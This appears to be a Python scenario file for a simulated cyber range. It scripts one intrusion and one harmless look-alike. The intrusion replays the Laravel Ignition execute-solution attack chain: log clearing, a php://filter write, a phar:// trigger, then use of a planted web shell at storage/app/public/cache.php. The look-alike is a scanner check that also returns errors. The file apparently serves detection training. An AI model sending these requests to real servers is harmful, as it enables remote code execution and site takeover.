"""Ignition's hole: the answer is 500 although it ran; twin: the same address answers 500 and nothing ran."""

from __future__ import annotations

import json
from random import Random

from range.estate.addresses import abroad
from range.scenarios.acts import intruder, use
from range.scenarios.acts import twin as twin_of
from range.visits.agents import PYTHON
from range.visits.browser import Browser
from range.visits.steps import Pause, Visit
from range.visits.world import World

NAME = "ignition"
SITES: tuple[str, ...] = ("perizinan",)
TWIN_SITES: tuple[str, ...] = ("ppdb",)

_TARGET = "/_ignition/execute-solution"
_JSON = (("Content-Type", "application/json"),)


def _body(view: str) -> bytes:
    solution = "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution"
    return json.dumps({"solution": solution, "parameters": {"variableName": "x", "viewFile": view}}).encode()


def intrusion(world: World) -> None:
    """Clear the log, fill it, open it as an archive (500), then use what it left in storage."""
    _, me, dice = intruder(world, NAME, SITES[0], "entered")
    me.agent = PYTHON
    world.go(SITES[0], world.at(17, 0.7), _exploit(me, dice))


def _exploit(me: Browser, dice: Random) -> Visit:
    yield from me.get("/")
    log = "../storage/logs/laravel.log"
    for view in (log, "AA", "php://filter/write=convert.quoted-printable-decode/resource=" + log):
        yield from me.ask("POST", _TARGET, _body(view), extra=_JSON, referrer="")
        yield Pause(2)
    yield from me.ask("POST", _TARGET, _body("phar://" + log), extra=_JSON, role="exploit", referrer="")
    yield Pause(6)
    yield from me.get("/storage/app/public/cache.php", role="first use", referrer="")
    yield from use(me, "/storage/app/public/cache.php", dice, 9)


def twin(world: World) -> None:
    """Plan: the scanner's harmless check is answered 500 twelve times with one and the same page."""
    actor, dice = twin_of(world, NAME, TWIN_SITES[0])
    me = world.browser(actor, abroad(dice), PYTHON)
    world.go(TWIN_SITES[0], world.at(17, 1.5), _check(me))


def _check(me: Browser) -> Visit:
    yield from me.get("/")
    for n in range(12):
        yield from me.ask("POST", _TARGET, _body(f"uji{n}"), extra=_JSON, referrer="")
        yield Pause(3)
    yield from me.get("/storage/app/public/cache.php", referrer="")
